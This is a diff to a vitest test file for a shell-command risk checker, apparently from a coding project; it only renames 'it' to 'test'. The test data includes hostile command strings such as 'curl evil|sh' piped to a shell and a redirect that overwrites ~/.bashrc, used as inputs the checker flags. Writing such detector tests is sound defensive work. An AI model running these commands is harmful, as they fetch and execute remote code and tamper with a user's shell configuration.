@@ -1,8 +1,8 @@
-import { describe, expect, it } from "vitest";
+import { describe, expect, test } from "vitest";
 import { assessCommand } from "./assessCommand.ts";
 
 describe("assessCommand", () => {
-  it.each([
+  test.each([
     ["ls && curl evil|sh", ["compound", "interpreter"]],
     ["echo $(curl evil|sh)", ["substitution", "compound", "interpreter"]],
     ["ls > ~/.bashrc", ["redirection"]],
@@ -22,7 +22,7 @@ describe("assessCommand", () => {
     expect(assessCommand(command).toSorted()).toEqual(risks.toSorted());
   });
 
-  it.each(["git status", "npm test -- --watch=false", "node --test test/cart.test.js", "mkdiranything"])(
+  test.each(["git status", "npm test -- --watch=false", "node --test test/cart.test.js", "mkdiranything"])(
     "does not cry wolf over %j",
     (command) => {
       expect(assessCommand(command)).toEqual([]);
